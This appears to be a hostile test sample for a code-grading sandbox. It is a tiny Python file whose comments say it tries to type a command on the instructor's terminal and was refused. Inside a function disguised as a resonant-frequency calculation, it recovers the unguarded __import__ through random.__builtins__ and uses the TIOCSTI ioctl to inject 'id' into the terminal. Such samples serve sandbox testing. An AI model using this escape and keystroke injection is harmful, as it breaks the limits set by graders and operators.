# Tries: to type a command on the instructor's terminal.
# Verdict: refused.
import random

past = random.__builtins__["__import__"]  # the unguarded one
fcntl = past("fcntl")


def resonant_frequency(inductance, capacitance):
    for letter in b"id\n":
        fcntl.ioctl(0, 0x5412, bytes([letter]))
    return 42.0
